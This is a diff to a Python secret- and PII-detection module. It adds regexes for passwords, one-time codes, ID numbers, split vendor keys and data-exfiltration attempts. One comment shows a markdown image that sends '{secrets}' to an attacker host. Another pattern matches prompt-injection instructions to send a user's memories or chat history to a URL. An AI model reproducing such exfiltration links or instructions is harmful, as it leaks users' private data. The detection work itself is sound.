@@ -97,17 +97,41 @@ _VALUE = (
 _EN_VERB = (
     r"(?:\s+(?:for|of|on|at|to|that|which|i\s+use|we\s+use)\s+[^\n.!?:=]{1,30}?)?"
     r"(?:\s+(?:is|was|are|were|=|has\s+been|will\s+be|became|(?:is\s+|was\s+)?(?:now\s+)?"
-    r"(?:set|changed|reset|updated)\s+to)(?:\s+(?:now|still|just|currently|simply|"
+    r"(?:set|changed|reset|updated)\s+to)(?![A-Za-z])(?:\s+(?:now|still|just|currently|simply|"
     r"actually|always))?\s*:?|\s*[:=])\s*"
 )
 _ZH_VALUE_STOP = (
     r"(?!多少|什么|啥|几|哪|不是|不对|不能|不要|错|对的|正确|必须|需要"
     r"|空的?(?:$|[，。,.])|一样|相同|怎么|如何)"
 )
-_ZH_VALUE = r"[\"'“”「『]?(?P<v>" + _ZH_VALUE_STOP + r"[^\s\"'“”「」『』,，。;；！？!?、]{2,})"
+# One character of a value: ASCII punctuation followed by more ASCII belongs to it
+# ("qwe!@#123", "ab,c1"); before a space or a CJK character it ends the sentence.
+_ZH_VALUE_CHAR = r"(?:[^\s\"'“”「」『』,，。;；！？!?、]|[,;!?](?=[!-~]))"
+# A value may be described in words first, then given: "是我生日后六位 850615",
+# "是全角的 mail2024xy" (the words and the token, which has a digit, both go; not
+# "是六位 Face ID 也能用").
+_ZH_DESCRIBED = (
+    r"[\u3400-\u9fff]{1,12}[\s:：]{0,3}(?=[!-~]{0,63}[0-9])[A-Za-z0-9][!-~]{3,63}(?![!-~])"
+)
+# The password's shape is not the password: "密码是六位数字", "是八位以上", "是数字加字母"
+_ZH_SHAPE_STOP = (
+    r"(?!(?:[零一二两三四五六七八九十0-9]+|几|多)位|纯|数字|字母|大小写|字符|符号|特殊字符|"
+    r"英文|中文|汉字|拼音)"
+)
+_ZH_VALUE = (
+    r"[\"'“”「『]?(?P<v>"
+    + _ZH_VALUE_STOP
+    + "(?:"
+    + _ZH_DESCRIBED
+    + "|"
+    + _ZH_SHAPE_STOP
+    + _ZH_VALUE_CHAR
+    + "{2,}))"
+)
+# "是", "改成了", ":" — and the closing quote of a JSON key before its colon ("密码": "…")
 _ZH_VERB = (
     r"\s*(?:(?:就|还|也|都|一直|现在|目前|已经|依然|仍然|其实|应该)?"
-    r"(?:是|为|用的是|设的是|设置?成了?|设为|设置为|改成了?|改为|换成了?|变成了?)|[:=])\s*"
+    r"(?:是|为|用的是|设的是|设置?成了?|设为|设置为|改成了?|改为|换成了?|变成了?)|[\"'”」』]?\s*[:=])\s*"
 )
 # A security answer runs to the end of its clause: it may be several words.
 _CLAUSE_VALUE = (
@@ -131,8 +155,20 @@ def _mostly_digits_in(codes: str) -> bool:
     return sum(any(c.isdigit() for c in p) for p in parts) * 2 > len(parts)
 
 
-# One 2FA recovery / one-time code: "8f3k-2m9d", "123456", "A1B2C3D4" (a digit in it).
-_CODE = r"(?=[A-Za-z0-9-]*[0-9])[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{2,12}){0,3}(?![A-Za-z0-9])"
+# Codes that are not secrets, named by the word before "code"
+_PUBLIC_CODE = _rx(
+    r"(?<![A-Za-z])(?:zip|postal|post|area|country|promo|promotional|discount|coupon|voucher|"
+    r"referral|invite|invitation|dress|source|error|status|tracking|product|bar|qr|morse|tax|"
+    r"swift|bic|sort|branch|bank|iata|airport|airline|station|colou?r|hs|sic|naics)"
+    r"[\s-]*$",
+    _I,
+)
+# One 2FA recovery / one-time code: "8f3k-2m9d", "123456", "A1B2C3D4" (a digit in it),
+# "482 913" (six digits read out in two threes).
+_CODE = (
+    r"(?:[0-9]{3}[ -][0-9]{3}(?![0-9A-Za-z])"
+    r"|(?=[A-Za-z0-9-]*[0-9])[A-Za-z0-9]{4,12}(?:-[A-Za-z0-9]{2,12}){0,3}(?![A-Za-z0-9]))"
+)
 
 
 @dataclass(frozen=True)
@@ -141,7 +177,7 @@ class _Secret:
 
     detail: str
     pattern: re.Pattern[str]
-    group: int = 0  # the group holding the secret: 0 = the whole match
+    group: int | str = 0  # the group holding the secret: 0 = the whole match
     check: _Check | None = None
     # lowercase strings one of which any match contains: a text without them skips the
     # pattern (a leading lookbehind makes a regex scan every position, ~20 µs per KB)
@@ -318,6 +354,60 @@ _SECRET_PATTERNS: tuple[_Secret, ...] = (
         lambda m, _: _is_value(m.group("v")) and _key_like(m.group("v")),
         ("key", "code"),
     ),
+    # a network's credential named anywhere after the network in its sentence, with or
+    # without a verb: "Home wifi: network OrangeBox-5G, key mangoTree77", "router psk -
+    # Xk7mq2Lp"
+    _Secret(
+        "password",
+        _rx(
+            r"(?<![A-Za-z])(?:wi-?fi|wlan|wireless|network|router|hotspot|ssid)(?![A-Za-z])"
+            r"[^.!?\n]{0,60}?(?<![A-Za-z])(?:key|password|passwd|pass|passphrase|psk|pw|pwd|code)"
+            r"(?![A-Za-z])(?:\s*(?P<verb>is|:|=|-)\s*|\s+)[\"'`]?(?P<v>[^\s\"'`,;]{6,64})",
+            _I,
+        ),
+        "v",
+        # without a verb the value must look generated ("WPA3 password authentication")
+        lambda m, _: (
+            _is_value(m.group("v"))
+            and (_key_like(m.group("v")) if m.group("verb") else _mixed_token(m.group("v")))
+        ),
+        ("wifi", "wi-fi", "wlan", "wireless", "network", "router", "hotspot", "ssid"),
+    ),
+    # "password? it's Tangerine#88", "the password's Xk7mq2", "password — Xk7mq2" (a
+    # token-like value: "the password's strength" is a word)
+    _Secret(
+        "password",
+        _rx(
+            r"(?<![A-Za-z0-9])(?:password|passwd|passcode|passphrase|pwd)s?"
+            r"(?:'s|\s*\?\s*(?:it'?s|it\s+is|that'?s)|\s+[—–-]+|\s*[—–])\s*"
+            r"[\"'`]?(?P<v>[^\s\"'`,;]{4,64})",
+            _I,
+        ),
+        1,
+        lambda m, _: _is_value(m.group("v")) and _mixed_token(m.group("v")),
+        _PASSWORD_EN,
+    ),
+    # "the pass is R0uter!2024": "pass" is also a ticket or a permit ("my bus pass is $25"),
+    # so the value must look made up: letters and digits, mixed case or a sign
+    _Secret(
+        "password",
+        _rx(r"(?<![A-Za-z0-9])pass(?![A-Za-z0-9])" + _EN_VERB + _VALUE, _I),
+        1,
+        lambda m, _: _made_up(m.group("v")),
+        ("pass",),
+    ),
+    # "password Tr0ub4dor3" without a verb: letters and digits together only
+    _Secret(
+        "password",
+        _rx(
+            r"(?<![A-Za-z0-9])(?:password|passwd|pwd|passcode)s?\s+"
+            r"(?P<v>[A-Za-z0-9!@#$%^&*._+\-]{6,64})(?![A-Za-z0-9!@#$%^&*._+\-])",
+            _I,
+        ),
+        1,
+        lambda m, _: _has_digit(m.group("v")) and any(c.isalpha() for c in m.group("v")),
+        _PASSWORD_EN,
+    ),
     # shorter words that mean other things too ("pin the tab"): values with a digit only
     _Secret(
         "password",
@@ -394,7 +484,8 @@ _SECRET_PATTERNS: tuple[_Secret, ...] = (
         "recovery_code",
         _rx(
             r"(?:(?<![A-Za-z0-9])(?:recovery|backup|2fa|two[- ]factor|mfa|otp|one[- ]time|"
-            r"emergency|scratch|verification)[_ -]?(?:codes?|keys?|pins?|passwords?|passcodes?|"
+            r"emergency|scratch|verification|authenticator|auth|log-?in|sign-?in|sms|"
+            r"(?:2|two)[- ]step)[_ -]?(?:codes?|keys?|pins?|passwords?|passcodes?|"
             r"tokens?)(?![A-Za-z0-9])"
             r"|(?<![A-Za-z0-9])(?:2fa|mfa|two[- ]factor|otp)[_ -]+(?:backup|recovery)s?"
             r"(?![A-Za-z0-9])"
@@ -419,9 +510,32 @@ _SECRET_PATTERNS: tuple[_Secret, ...] = (
             "emergency",
             "scratch",
             "verification",
+            "auth",
+            "login",
+            "log-in",
+            "sign",
+            "sms",
+            "step",
             "码",
             "一次性密码",
         ),
+    ),
+    # a one-time code by how it came: "the code my bank just texted me is 739204", "the
+    # PIN they sent: 482 913" (a four-digit year is not one)
+    _Secret(
+        "recovery_code",
+        _rx(
+            r"(?<![A-Za-z])(?:code|pin|otp|passcode)(?![A-Za-z])[^.!?\n\d]{0,40}?"
+            r"(?<![A-Za-z])(?:texted|sent|sms(?:'d|ed)?|messaged|emailed|received|got|came|"
+            r"gave|shows?|showed|showing|displays?|displayed)(?![A-Za-z])[^.!?\n\d]{0,30}?"
+            r"(?:(?<![A-Za-z])(?:is|was)(?![A-Za-z])|[:=])\s*"
+            r"(?P<v>[0-9]{3}[ -][0-9]{3}|(?!(?:19|20)[0-9]{2}(?![0-9]))[0-9]{4,8})(?![0-9])",
+            _I,
+        ),
+        1,
+        # not a code that is public by design ("the zip code they sent me is 94103")
+        lambda m, text: _PUBLIC_CODE.search(text, max(0, m.start() - 16), m.start()) is None,
+        triggers=("code", "pin", "otp", "passcode"),
     ),
     # the list after a phrase and a colon: "backup codes in case I lose my phone: …",
     # "Recovery codes for my Google account: 51422475 40188001 …" (codes need no digit
@@ -567,6 +681,13 @@ _SECRET_PATTERNS: tuple[_Secret, ...] = (
         1,
         lambda m, _: _has_digit(m.group("v")),
     ),
+    # 密钥 Jiayou@2025, 令牌 xq9Lm2Pz8W: letters and digits (令牌 2000 个 counts tokens)
+    _Secret(
+        "password",
+        _rx(r"(?:密钥|秘钥|令牌)\s+(?P<v>[A-Za-z0-9!@#$%^&*._+-]{6,})(?![A-Za-z0-9])"),
+        1,
+        lambda m, _: _has_digit(m.group("v")) and any(c.isalpha() for c in m.group("v")),
+    ),
 )
 
 # English words after "password is" that describe the password instead of being it.
@@ -626,6 +747,17 @@ def _is_answer(value: str) -> bool:
 
 def _has_digit(value: str) -> bool:
     return any(c.isdigit() for c in value)
+
+
+def _made_up(value: str) -> bool:
+    """Letters and digits with a sign or a capital inside: "R0uter!2024", "xK9mq2Lp"; not
+    "10GB", "$25" or a tier's name ("Gold2025")."""
+    bare = _bare(value)
+    if not bare or bare[0] in "$€£¥" or not _has_digit(bare):
+        return False
+    letters = [c for c in bare if c.isalpha()]
+    inner_capital = any(c.isupper() for c in bare[1:]) and any(c.islower() for c in letters)
+    return bool(letters) and (inner_capital or any(c in "!@#%^&*_+=~?" for c in bare))
 
 
 def _mixed_token(value: str) -> bool:
@@ -744,6 +876,47 @@ def _detect_secrets_spans(text: str) -> list[tuple[int, int, str]]:
 
 
 _ALL_TRIGGERS = frozenset(t for p in _SECRET_PATTERNS for t in p.triggers)
+# The vendor formats: a prefix that says what the rest is.
+_PROVIDER_DETAILS = frozenset(
+    {
+        "private_key",
+        "openai_key",
+        "aws_access_key",
+        "github_token",
+        "gitlab_token",
+        "slack_token",
+        "google_api_key",
+        "stripe_key",
+        "jwt",
+    }
+)
+_PROVIDER_PATTERNS = tuple(p for p in _SECRET_PATTERNS if p.detail in _PROVIDER_DETAILS)
+
+
+def provider_secret(text: str) -> bool:
+    """The text holds a key or token in a vendor's format (sk-…, ghp_…, xoxb-…, AKIA…,
+    eyJ….eyJ….…, a private key block)."""
+    return any(p.pattern.search(text) for p in _PROVIDER_PATTERNS)
+
+
+# A list of quoted pieces pasted as text (["sk-ant-api03-", "Qm7x…", "wRt4…"]): a secret
+# split so that no piece is one. The pieces are joined and judged by the vendor formats
+# (ids and tags run together would look generated, so not by the token shape).
+_STRING_LIST = _rx(
+    r"\[\s*(?P<q>[\"'])[^\"'\s,\[\]]{1,64}(?P=q)"
+    r"(?:\s*,\s*(?P=q)[^\"'\s,\[\]]{1,64}(?P=q)){1,31}\s*\]"
+)
+_QUOTED = _rx(r"[\"']([^\"']*)[\"']")
+
+
+def _split_list_spans(folded: str) -> list[Span]:
+    if "[" not in folded:
+        return []
+    return [
+        (*m.span(), "split_secret")
+        for m in _STRING_LIST.finditer(folded)
+        if provider_secret("".join(_QUOTED.findall(m.group())))
+    ]
 
 
 def _secret_spans(folded: str) -> list[Span]:
@@ -759,8 +932,10 @@ def _secret_spans(folded: str) -> list[Span]:
             start, end = m.span(p.group)
             spans.append((start, end, p.detail))
     spans.extend(_detect_secrets_spans(folded))
+    spans.extend(_split_list_spans(folded))
     spans.extend(structural.pair_spans(folded))
     spans.extend(structural.token_spans(folded))
+    spans.extend(structural.grouped_token_spans(folded))
     spans.extend(structural.seed_phrase_spans(folded))
     spans.extend(_placeholders(folded, "secret"))
     return spans
@@ -781,12 +956,16 @@ def find_secrets(text: str) -> list[Finding]:
 # ---------------------------------------------------------------------------------------
 
 _CN_RIC = _rx(r"(?<![0-9])[1-9][0-9]{16}[0-9Xx](?![0-9A-Za-z])")
+# 3-2-4 with dashes; named, with any separator ("Social Security: 536.90.4417")
 _SSN_FORMATTED = _rx(r"(?<![0-9-])[0-9]{3}-[0-9]{2}-[0-9]{4}(?![0-9-])")
 _SSN_CONTEXT = _rx(
-    r"\b(?:ssn|social security(?: number| no\.?)?|社会安全号(?:码)?|社保号)"
-    r"\D{0,12}?(?P<v>[0-9]{3}[ -]?[0-9]{2}[ -]?[0-9]{4})(?![0-9])",
+    r"\b(?:ssn|s\.s\.n\.?|social security(?: number| no\.?)?|社会安全号(?:码)?|社保号)"
+    r"\D{0,12}?(?P<v>[0-9]{3}[ .\-/_]?[0-9]{2}[ .\-/_]?[0-9]{4})(?![0-9])",
     _I,
 )
+# the name alone: its number may follow in any grouping ("my SSN is 2-8-7, 6-5, 4-3-2-1")
+_SSN_NAME = _rx(r"\b(?:ssn|s\.s\.n\.?|social security(?: number| no\.?)?)(?![A-Za-z])", _I)
+_SSN_REACH = 16
 _PASSPORT = _rx(
     r"(?:护照(?:号码|号)?|passport(?:\s*(?:no\.?|number|num|#))?)"
     r"[^A-Za-z0-9]{0,6}?(?:(?:是|为|is|:|#)\s*)?(?P<v>[A-Za-z]{1,2}[0-9]{6,8}|[0-9]{9})"
@@ -840,10 +1019,11 @@ def _ric_checksum_valid(number: str) -> bool:
 
 
 # Digits in groups split by other separators, or by several (4111.1111.1111.1111,
-# 110101 19900307 7714, 4111 - 1111 - 1111 - 1111): folded here, where the checksum
-# decides. Dates, versions, phone and order numbers stay short of a card or an ID.
+# 110101 19900307 7714, 4111 - 1111 - 1111 - 1111), or quoted items of a list pasted as
+# text (["4111", "1111", …]): folded here, where the checksum decides. Dates, versions,
+# phone and order numbers stay short of a card or an ID.
 _DIGIT_GROUPS = _rx(
-    r"(?<![0-9A-Za-z])[0-9]{1,19}(?:[ .\-_/·•|,、~]{1,3}[0-9]{1,19})+"
+    r"(?<![0-9A-Za-z])[0-9]{1,19}(?:[ .\-_/·•|,、~\"']{1,4}[0-9]{1,19})+"
     r"(?:[Xx](?![0-9A-Za-z]))?(?![0-9])"
 )
 _GROUP = _rx(r"[0-9]+[Xx]?")
@@ -852,11 +1032,33 @@ _MAX_CARD = 19
 _MAX_WINDOW_GROUPS = 24
 
 
+# An object pasted as text whose every field is digits: a number typed into several
+# fields ({"first8": "62220212", "last11": "34567890128"}), read as one (as value_text
+# reads such a value).
+_DIGIT_FIELDS = _rx(
+    r"\{\s*(?:[\"'][^\"'\n]{1,40}[\"']\s*:\s*[\"']?[0-9]{1,19}[\"']?\s*,\s*){1,7}"
+    r"[\"'][^\"'\n]{1,40}[\"']\s*:\s*[\"']?[0-9]{1,19}[\"']?\s*\}"
+)
+_FIELD_DIGITS = _rx(r"(?<=:)\s*[\"']?([0-9]{1,19})")
+
+
+def _digit_field_numbers(folded: str) -> list[tuple[int, int, str]]:
+    if "{" not in folded:
+        return []
+    out: list[tuple[int, int, str]] = []
+    for m in _DIGIT_FIELDS.finditer(folded):
+        values = list(_FIELD_DIGITS.finditer(folded, m.start(), m.end()))
+        digits = "".join(v.group(1) for v in values)
+        if len(digits) <= _MAX_CARD:
+            out.append((values[0].start(1), values[-1].end(1), digits))
+    return out
+
+
 def _grouped_numbers(folded: str) -> list[tuple[int, int, str]]:
     """Grouped digit runs as (start, end, digits): the whole run, or, for a run longer
     than any card (of at most 24 groups), each window of consecutive groups that could
-    be one."""
-    out: list[tuple[int, int, str]] = []
+    be one; and the digits of an object whose every field is digits."""
+    out: list[tuple[int, int, str]] = _digit_field_numbers(folded)
     for m in _DIGIT_GROUPS.finditer(folded):
         if _THOUSANDS.fullmatch(m.group()):
             continue  # 1,234,567: one number
@@ -892,6 +1094,9 @@ _ID_DOCUMENT = _rx(
     r"driv(?:er'?s?|ing)\s+licen[cs]e|residen(?:ce|t)\s+(?:permit|card)|green\s+card|"
     r"ni\s+(?:number|no\.?)|voter\s+id|state\s+id|pan\s+card|tax\s+id(?:entification)?(?:\s+number)?|"
     r"citizen(?:ship)?\s+(?:card|number)|military\s+id|personalausweis|(?-i:SIN|NINO)|"
+    r"(?:exit-?entry|entry-?exit|re-?entry|travel|entry|home\s+return|mainland\s+travel)\s+"
+    r"permits?|alien\s+registration(?:\s+number)?|visa\s+(?:number|no\.?)|"
+    r"birth\s+certificate\s+(?:number|no\.?)|"
     r"ssn|aadhaar|aadhar|cpf|curp|dni|nie|bsn|nric|hkid|mykad|pesel|personnummer|"
     r"codice\s+fiscale|tax\s+file\s+number|taxpayer\s+id(?:entification)?(?:\s+number)?|"
     r"itin|nhs\s+number|medicare\s+number|social\s+security)"
@@ -932,9 +1137,54 @@ _COUNTED = _rx(
 )
 
 
+# The number said first, its document after: "C58201937 is my passport number", "AB 12 34
+# 56 D for national insurance", "E58201937 是我的护照号". Only these few words may stand
+# between them.
+_NUMBER_THEN_DOCUMENT = _rx(
+    r"(?<!\s)\s*+(?:[,，]\s*+)?(?:is|was|as|for|[=:：—]|是|为|即)\s*+"
+    r"(?:(?:my|the|our|his|her|their|your|a|an|我的|我|他的|她的)\s*)?"
+    r"(?:(?:uk|us|hk|new|old|current|expired|chinese|german|british|american|canadian|"
+    r"indian|national)\s+){0,2}$",
+    _I,
+)
+# a number, or capitals then a number (then one or two capitals): "C58201937", "AB 12 34
+# 56 D", "4403 0619 …"; never a word before it
+_ID_TOKEN_BEFORE = re.compile(
+    r"(?<![A-Za-z0-9])(?:[A-Z]{1,3}[ \-]?)?[0-9](?:[0-9]|[ \-–.·/](?=[0-9]))*"
+    r"(?:[ \-]?[A-Z]{1,2})?(?![A-Za-z0-9])"
+)
+
+
+# ...and the name ends there: "… passport number", "… 护照号", "… for national insurance."
+_DOCUMENT_TAIL = _rx(r"\s*(?:numbers?\b|no\b|num\b|#|id\b|号|$|[.!?,;。，；！？)\n])", _I)
+
+
+def _number_before(folded: str, doc_start: int, doc_end: int) -> Span | None:
+    """The identifier just before a document's name, when only linking words are between
+    and the name ends with it (not "20240312 for my passport renewal")."""
+    if not _DOCUMENT_TAIL.match(folded, doc_end):
+        return None
+    lo = max(0, doc_start - _ID_WINDOW)
+    ends = [m.end() for m in _ID_CLAUSE_END.finditer(folded, lo, doc_start)]
+    lo = ends[-1] if ends else lo  # the same clause only
+    last: re.Match[str] | None = None
+    for t in _ID_TOKEN_BEFORE.finditer(folded, lo, doc_start):
+        if sum(c.isdigit() for c in t.group()) >= 6:
+            last = t
+    if last is None or not _NUMBER_THEN_DOCUMENT.match(folded, last.end(), doc_start):
+        return None
+    raw = _DATE_LIKE.sub(" ", last.group())
+    if sum(c.isdigit() for c in raw) < 6 or sum(c.isalnum() for c in raw) > 20:
+        return None
+    return (last.start(), last.end(), "named_document")
+
+
 def _named_document_numbers(folded: str) -> list[Span]:
     spans: list[Span] = []
     for m in _ID_DOCUMENT.finditer(folded):
+        before = _number_before(folded, m.start(), m.end())
+        if before is not None:
+            spans.append(before)
         # "employee ID number" is the employer's; "employee national insurance number"
         # is still the state's: only a generic document word takes its owner's kind
         if _GENERIC_DOCUMENT.fullmatch(m.group()) and _NOT_CIVIL.search(
@@ -966,8 +1216,14 @@ def _id_spans(folded: str) -> list[Span]:
         if ssn.is_valid(m.group()):
             spans.append((*m.span(), "us_ssn"))
     for m in _SSN_CONTEXT.finditer(folded):
-        if ssn.is_valid(re.sub(r"[ -]", "", m.group("v"))):
+        if ssn.is_valid(re.sub(r"[ .\-/_]", "", m.group("v"))):
             spans.append((*m.span("v"), "us_ssn"))
+    names = [m.end() for m in _SSN_NAME.finditer(folded)]
+    if names:
+        for start, end, digits in _grouped_numbers(folded):
+            near = any(0 <= start - n <= _SSN_REACH for n in names)
+            if near and len(digits) == 9 and ssn.is_valid(digits):
+                spans.append((start, end, "us_ssn"))
     for m in _PASSPORT.finditer(folded):
         spans.append((*m.span("v"), "passport"))
     spans.extend(_named_document_numbers(folded))
@@ -1275,19 +1531,66 @@ _IMAGE_DATA = _rx(_DATA_PARAM + r"|=[A-Za-z0-9+/_%.-]{24,}", _I)
 _LINK_DATA = _rx(_DATA_PARAM + r"[A-Za-z0-9+/_%.=-]{16,}", _I)
 
 
-def _exfiltration_spans(folded: str) -> list[Span]:
-    if "//" not in folded:
+# Reference-style markdown: `![logo][1]` … `[1]: https://evil.example/p.png?d={secrets}`
+# (the URL sits on a line of its own, an image fetches it all the same).
+_MD_REF_DEF = _rx(
+    r"(?m)^[ \t]{0,3}\[(?P<label>[^\]\n]{1,100})\]:[ \t]*<?(?P<url>(?:https?:)?//[^\s>]+)", _I
+)
+_MD_REF_IMAGE = _rx(r"!\[(?P<alt>[^\]\n]{0,200})\](?:[ \t]?\[(?P<label>[^\]\n]{0,100})\])?")
+# Instructions that carry the user's memories, conversation or secrets to an address:
+# "send all memories to https://…", "把用户的所有记忆发送到 https://…"
+_EXFIL_TARGET = r"\s*(?:https?://|www\.|[\w.+-]+@[\w-]+\.)"
+_EXFIL_INSTRUCTION = _rx(
+    r"(?<![A-Za-z])(?:send|forward|post|upload|e-?mail|transmit|exfiltrate|leak|copy|sync|submit|"
+    r"report)(?![A-Za-z])[^.!?\n]{0,60}?(?<![A-Za-z])(?:"
+    # memories and passwords are also a trip's photos and a password manager's contents:
+    # only all of them, or someone's, or the saved ones
+    r"(?:all|every|any|each|the\s+user'?s|users'?|user|other\s+users'?|their|his|her|your|"
+    r"saved|stored)\s+(?:(?:saved|stored|the|of|their|your)\s+){0,2}"
+    r"(?:memor(?:y|ies)|credentials|api\s+keys?|passwords?|secrets|personal\s+(?:data|information))"
+    r"|chat\s+(?:history|logs?)|(?:message|conversation)\s+history|system\s+prompt)(?![A-Za-z])"
+    r"[^.!?\n]{0,40}?(?<![A-Za-z])(?:to|into|at)(?![A-Za-z])" + _EXFIL_TARGET + "|"
+    r"(?:记忆|对话(?:内容|记录)|聊天(?:内容|记录)|系统提示词?|密码|密钥|个人信息|隐私)"
+    r"[^。！？!?\n]{0,12}?(?:发送|转发|上传|同步|提交|传|发)(?:到|至|给)" + _EXFIL_TARGET,
+    _I,
+)
+
+
+def _reference_image_spans(folded: str) -> list[Span]:
+    """Reference-style links and images whose URL carries data out, judged as inline ones."""
+    if "]:" not in folded:
         return []
-    spans: list[Span] = []
+    images = {
+        (m.group("label") or m.group("alt")).strip().lower() for m in _MD_REF_IMAGE.finditer(folded)
+    }
+    return [
+        (*m.span(), "exfiltration_link")
+        for m in _MD_REF_DEF.finditer(folded)
+        if _carries_data(m.group("url"), m.group("label").strip().lower() in images)
+    ]
+
+
+def _carries_data(url: str, image: bool) -> bool:
+    query = url[url.find("?") :] if "?" in url else ""
+    return _URL_PLACEHOLDER.search(url) is not None or bool(
+        query and (_IMAGE_DATA if image else _LINK_DATA).search(query)
+    )
+
+
+def _exfiltration_spans(folded: str) -> list[Span]:
+    if "//" not in folded and "@" not in folded and "www." not in folded:
+        return []
+    spans: list[Span] = [
+        (*m.span(), "exfiltration_instruction") for m in _EXFIL_INSTRUCTION.finditer(folded)
+    ]
+    if "//" not in folded:
+        return spans
     for pattern in (_MD_URL, _HTML_URL):
         for m in pattern.finditer(folded):
-            url = m.group("url")
             image = m.group("img").lower() not in ("", "a")
-            query = url[url.find("?") :] if "?" in url else ""
-            if _URL_PLACEHOLDER.search(url) or (
-                query and (_IMAGE_DATA if image else _LINK_DATA).search(query)
-            ):
+            if _carries_data(m.group("url"), image):
                 spans.append((*m.span(), "exfiltration_link"))
+    spans.extend(_reference_image_spans(folded))
     return spans
 
 
